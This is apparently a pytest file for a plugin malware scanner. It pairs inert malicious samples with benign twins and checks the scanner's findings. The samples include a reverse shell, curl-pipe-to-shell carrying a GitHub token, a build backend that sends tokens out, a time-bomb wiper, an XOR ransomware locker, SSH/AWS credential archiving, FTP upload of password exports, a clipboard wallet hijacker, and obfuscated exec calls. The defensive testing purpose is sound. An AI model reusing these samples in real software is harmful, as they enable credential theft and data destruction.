"""Round-six engine classes, each with a malicious sample and a benign twin.

Paths built by ``os.path.join``/``Path /`` read as shapes (``*/.git/hooks/*``), asyncio process
calls with their argv spread out, f-string arguments keeping their constant parts, PEP 517 build
backends and setuptools hooks as install-time roots, wipers over a literal list of directories or
through names bound once, and region checks inside helpers. Samples are inert strings; hosts are
``*.invalid`` or 127.0.0.1.
"""

# ruff: noqa: E501

from __future__ import annotations

from collections.abc import Mapping

from automatos.kernel.scanning import ScanTarget, run_rules
from automatos.kernel.types import ScanFinding, Severity
from tests.scanning.conftest import RULES, scan

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def _hits(files: dict[str, str], rule: str, perms: Mapping[str, object] | None = None) -> list[ScanFinding]:
    return [f for f in scan(files, perms).findings if f.rule == rule]


# -- persistence through joined paths ---------------------------------------------------------------

HOOK = """\
import os
def install(top):
    path = os.path.join(top, ".git", "hooks", "pre-commit")
    with open(path, "w") as fh:
        fh.write("#!/bin/sh\\nexit 0\\n")
"""

TASKS = """\
import json
from pathlib import Path
def scaffold(folder):
    vs = Path(folder) / ".vscode"
    (vs / "tasks.json").write_text(json.dumps({"tasks": []}))
"""


def test_git_hooks_and_editor_tasks_written_through_joined_paths_are_persistence() -> None:
    assert [(f.severity, f.line, f.reachable) for f in _hits({"plug/__init__.py": HOOK}, "persistence")] == [
        (C, 4, True)
    ]
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": TASKS}, "persistence")] == [(C, 5)]


def test_joined_paths_to_ordinary_files_are_not_persistence() -> None:
    twin_hook = HOOK.replace('".git", "hooks", "pre-commit"', '"docs", "CHANGELOG.md"')
    twin_tasks = TASKS.replace('".vscode"', '"build"').replace('"tasks.json"', '"report.json"')
    for source in (twin_hook, twin_tasks):
        report = scan({"plug/__init__.py": source})
        assert [f for f in report.findings if f.rule == "persistence"] == [] and report.verdict.value == "safe"


def test_credential_file_joined_under_home_is_read_and_its_exfiltration_critical_even_to_a_declared_host() -> None:
    src = """\
import os, requests
def ctx():
    with open(os.path.join(os.path.expanduser("~"), ".kube", "config")) as fh:
        return fh.read()
def send(lines):
    requests.post("https://api.example.invalid/v1", json=lines, headers={"X-C": ctx()})
"""
    perms = {"network": ["api.example.invalid"]}
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "credential-read", perms)] == [(C, 3)]
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "exfiltration", perms)] == [(C, 6)]
    twin = src.replace('".kube", "config"', '".config", "podsum.toml"')
    assert _hits({"plug/__init__.py": twin}, "exfiltration", perms) == []


# -- asyncio processes --------------------------------------------------------------------------------

ASYNC_SHELL = """\
import asyncio
PARTS = ("ba", "sh -i >& /de", "v/tc", "p/127.0.0.1/", "4445 0>&1")
async def keep():
    proc = await asyncio.create_subprocess_exec("/bin/bash", "-c", "".join(PARTS))
    await proc.wait()
"""


def test_asyncio_exec_with_spread_argv_is_classified_like_a_list() -> None:
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": ASYNC_SHELL}, "reverse-shell")] == [(C, 4)]
    twin = 'import asyncio\nasync def probe(path):\n    proc = await asyncio.create_subprocess_exec("ffprobe", "-v", "error", path)\n    return await proc.wait()\n'
    hits = _hits({"plug/__init__.py": twin}, "process-spawn", {"subprocess": ["ffprobe"]})
    assert [(f.severity, f.declared) for f in hits] == [(M, True)]
    assert _hits({"plug/__init__.py": twin}, "reverse-shell") == []


def test_f_string_command_arguments_keep_their_constant_parts() -> None:
    src = 'import os, subprocess\ndef go():\n    t = os.environ.get("GITHUB_TOKEN", "")\n    subprocess.Popen(["sh", "-c", f"curl -s -H \'X: {t}\' http://127.0.0.1:8901/b | sh"])\n'
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "download-exec")] == [(C, 4)]
    twin = 'import subprocess\ndef go(name):\n    subprocess.run(["git", "log", f"--author={name}"], check=True)\n'
    assert _hits({"plug/__init__.py": twin}, "download-exec", {"subprocess": ["git"]}) == []


# -- build backends and setuptools hooks ---------------------------------------------------------------

BACKEND = """\
import os, urllib.request
from setuptools import build_meta as _orig
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    urllib.request.urlopen("http://127.0.0.1:8901/b", data=os.environ.get("GITHUB_TOKEN", "").encode())
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
"""
PYPROJECT = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'


def _target(files: dict[str, str]) -> ScanTarget:
    manifest = {"name": "t", "version": "1", "entry": "plug", "permissions": {}}
    return ScanTarget(files={p: t.encode() for p, t in files.items()}, manifest=manifest, entry="plug")


def test_a_bundled_pep517_backend_is_an_install_time_root() -> None:
    files = {"plug/__init__.py": "X = 1\n", "_build/backend.py": BACKEND, "pyproject.toml": PYPROJECT}
    report = run_rules(RULES, _target(files))
    exfil = [f for f in report.findings if f.rule == "exfiltration-capable"]
    assert exfil and all(f.reachable and f.path == "_build/backend.py" for f in exfil)
    assert report.verdict.value == "blocked"
    without = run_rules(RULES, _target({k: v for k, v in files.items() if k != "pyproject.toml"}))
    unreached = [f for f in without.findings if f.rule == "env-access"]
    assert unreached and not any(f.reachable for f in unreached)


def test_setup_cfg_cmdclass_module_is_an_install_time_root_and_a_plain_backend_is_not() -> None:
    cfg = "[options]\ncmdclass =\n    install = tools.hooks.Install\n"
    files = {"plug/__init__.py": "X = 1\n", "tools/hooks.py": BACKEND, "setup.cfg": cfg}
    env = [f for f in run_rules(RULES, _target(files)).findings if f.rule == "env-access"]
    assert env and all(f.reachable for f in env)
    plain = {
        "plug/__init__.py": "X = 1\n",
        "pyproject.toml": '[build-system]\nbuild-backend = "setuptools.build_meta"\n',
    }
    assert run_rules(RULES, _target(plain)).verdict.value == "safe"


# -- wipers ---------------------------------------------------------------------------------------------

TIMEBOMB = """\
import datetime, os, shutil
def housekeeping():
    if datetime.date.today() >= datetime.date(2026, 3, 1) and not os.environ.get("CI"):
        for d in ("~", "/srv"):
            shutil.rmtree(os.path.expanduser(d), ignore_errors=True)
"""


def test_deleting_a_literal_list_of_precious_directories_behind_a_date_is_critical() -> None:
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": TIMEBOMB}, "destructive")] == [(C, 5)]
    twin = TIMEBOMB.replace('("~", "/srv")', '("build", "dist", ".pytest_cache")')
    assert _hits({"plug/__init__.py": twin}, "destructive") == []


def test_deleting_swept_files_through_a_joined_name_is_destructive() -> None:
    src = "import os\ndef lock():\n    for root, _, files in os.walk(os.path.expanduser('~/Documents')):\n        for f in files:\n            p = os.path.join(root, f)\n            os.remove(p)\n"
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "destructive")] == [(H, 6)]
    twin = src.replace("os.path.expanduser('~/Documents')", "os.path.join(os.path.dirname(__file__), 'cache')")
    assert _hits({"plug/__init__.py": twin}, "destructive") == []


def test_a_region_check_inside_a_helper_gates_a_wiper() -> None:
    src = """\
import locale
from pathlib import Path
def _region():
    loc = locale.getlocale()[0] or ""
    return loc.startswith(("xx_", "yy_"))
def init():
    if not _region():
        return
    for p in Path.home().rglob("*"):
        p.write_text("x")
"""
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "destructive")] == [(C, 10)]
    twin = src.replace("    if not _region():\n        return\n", "")
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": twin}, "destructive")] == [(H, 8)]


# -- credential exports and archives -------------------------------------------------------------------

PW_EXPORTS = """\
import ftplib, io
from pathlib import Path
WANTED = ("*.kdbx", "bitwarden_export_*.json", "*passwords*.csv")
def mirror():
    found = []
    for pat in WANTED:
        found.extend(Path.home().joinpath("Downloads").glob(pat))
    ftp = ftplib.FTP("127.0.0.1")
    for f in found:
        ftp.storbinary("STOR x", io.BytesIO(f.read_bytes()))
"""


def test_globbing_for_password_manager_exports_is_a_credential_read() -> None:
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": PW_EXPORTS}, "credential-read")] == [(C, 7)]
    twin = PW_EXPORTS.replace('("*.kdbx", "bitwarden_export_*.json", "*passwords*.csv")', '("*.pdf", "*.epub")')
    assert _hits({"plug/__init__.py": twin}, "credential-read") == []


def test_archiving_credential_directories_is_a_credential_read() -> None:
    src = "import io, os, tarfile\ndef pack():\n    buf = io.BytesIO()\n    with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n        for rel in ('.aws', '.ssh'):\n            tar.add(os.path.join(os.path.expanduser('~'), rel), arcname=rel)\n    return buf.getvalue()\n"
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "credential-read")] == [(C, 6)]
    twin = src.replace("('.aws', '.ssh')", "('reports', 'exports')")
    assert _hits({"plug/__init__.py": twin}, "credential-read") == []


# -- ransomware --------------------------------------------------------------------------------------

LOCKER = """\
import os
def lock(key):
    for root, _, files in os.walk(os.path.expanduser("~/Documents")):
        for f in files:
            p = os.path.join(root, f)
            with open(p, "rb") as fh:
                data = fh.read()
            with open(p + ".locked", "wb") as fh:
                fh.write(bytes(b ^ key for b in data))
            os.remove(p)
"""


def test_rewriting_swept_files_then_deleting_or_renaming_the_originals_is_critical() -> None:
    hits = _hits({"plug/__init__.py": LOCKER}, "destructive")
    assert (C, 10) in [(f.severity, f.line) for f in hits]
    renamer = "from pathlib import Path\ndef lock(k):\n    for p in Path.home().rglob('*'):\n        p.write_bytes(bytes(b ^ k for b in p.read_bytes()))\n        p.rename(str(p) + '.enc')\n"
    assert (C, 5) in [(f.severity, f.line) for f in _hits({"plug/__init__.py": renamer}, "destructive")]


def test_rewriting_files_of_its_own_folder_is_not_ransomware() -> None:
    twin = LOCKER.replace('os.path.expanduser("~/Documents")', "out_dir")
    twin = twin.replace("def lock(key):", "def lock(key, out_dir):")
    assert _hits({"plug/__init__.py": twin}, "destructive") == []
    rename_only = "from pathlib import Path\ndef tidy():\n    for p in Path.home().joinpath('shots').glob('*.png'):\n        p.rename(p.with_suffix('.PNG'))\n"
    assert _hits({"plug/__init__.py": rename_only}, "destructive") == []


# -- lookups through helpers ---------------------------------------------------------------------------

BUILTINS_LAMBDA = """\
import urllib.request
_b = globals()["__builtins__"]
_g = (lambda o, n: o[n] if isinstance(o, dict) else getattr(o, n))
_names = ["".join(reversed(x)) for x in ("cexe", "tcepsni")]
def warm():
    ex = _g(_b, _names[0])
    ex(urllib.request.urlopen("http://127.0.0.1:8501/t.py").read())
"""


def test_a_lookup_helper_over_builtins_with_reversed_names_resolves_to_exec() -> None:
    hits = _hits({"plug/__init__.py": BUILTINS_LAMBDA}, "obfuscated-call")
    assert (C, 7) in [(f.severity, f.line) for f in hits]
    assert [f.severity for f in _hits({"plug/__init__.py": BUILTINS_LAMBDA}, "download-exec")] == [C]


def test_a_lookup_helper_over_its_own_table_is_plain() -> None:
    twin = "import json\n_g = lambda o, n: o[n] if isinstance(o, dict) else getattr(o, n)\nFMT = {'json': json.dumps}\ndef render(v):\n    return _g(FMT, 'json')(v)\n"
    report = scan({"plug/__init__.py": twin})
    assert [f.rule for f in report.findings if f.rule in {"obfuscated-call", "dynamic-exec"}] == []
    assert report.verdict.value == "safe"


# -- clipboard hijack against a wallet pattern --------------------------------------------------------

HIJACK = """\
import re, pyperclip
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
MINE = "bc1qattackerwalletaddress0000000000000000"
def watch():
    c = pyperclip.paste().strip()
    if BTC.match(c) and c != MINE:
        pyperclip.copy(MINE)
"""


def test_replacing_a_clipboard_value_matching_a_wallet_pattern_with_a_fixed_one_is_hijack() -> None:
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": HIJACK}, "clipboard-hijack")] == [(C, 7)]


def test_validating_a_wallet_address_from_the_clipboard_and_copying_it_back_is_not_hijack() -> None:
    twin = HIJACK.replace("pyperclip.copy(MINE)", "pyperclip.copy(c.lower())")
    assert _hits({"plug/__init__.py": twin}, "clipboard-hijack") == []


# -- templated own-module imports -------------------------------------------------------------------------

FORMATS = """\
import importlib
FORMATS = {"csv": "csv_fmt", "md": "md_fmt"}
def export(rows, fmt="csv"):
    return importlib.import_module(f"plug.formats.{FORMATS[fmt]}").render(rows)
"""


def test_an_f_string_over_a_constant_table_of_own_modules_is_dispatch() -> None:
    files = {
        "plug/__init__.py": FORMATS,
        "plug/formats/__init__.py": "",
        "plug/formats/csv_fmt.py": "def render(r):\n    return r\n",
    }
    assert _hits(files, "dynamic-import") == []
    foreign = FORMATS.replace('f"plug.formats.{FORMATS[fmt]}"', 'f"plug.formats.{fmt}"')
    # a computed suffix under its own package can only reach its own (scanned) modules: medium
    assert [f.severity for f in _hits({**files, "plug/__init__.py": foreign}, "dynamic-import")] == [M]
    other = FORMATS.replace('"plug.formats.', '"elsewhere.')
    assert [f.severity for f in _hits({**files, "plug/__init__.py": other}, "dynamic-import")] == [M]


def test_event_loop_subprocess_methods_are_process_calls() -> None:
    src = 'import asyncio\nasync def f():\n    loop = asyncio.get_running_loop()\n    await loop.subprocess_exec(asyncio.SubprocessProtocol, "/bin/sh", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")\n'
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "reverse-shell")] == [(C, 4)]
    twin = 'import asyncio\nasync def f(p):\n    loop = asyncio.get_running_loop()\n    await loop.subprocess_exec(asyncio.SubprocessProtocol, "ffprobe", p)\n'
    hits = _hits({"plug/__init__.py": twin}, "process-spawn", {"subprocess": ["ffprobe"]})
    assert [(f.severity, f.line, f.declared) for f in hits] == [(M, 4, True)]


def test_builtins_dict_with_a_reversed_key_reaches_eval() -> None:
    src = 'def f(u):\n    return __builtins__.__dict__["lave"[::-1]](u)\n'
    hits = _hits({"plug/__init__.py": src}, "obfuscated-call")
    assert hits and {f.severity for f in hits} == {C} and {f.line for f in hits} == {2}
    twin = 'def f(u):\n    return __builtins__.__dict__["len"](u)\n'
    report = scan({"plug/__init__.py": twin})
    assert _hits({"plug/__init__.py": twin}, "obfuscated-call") == [] and report.verdict.value == "safe"
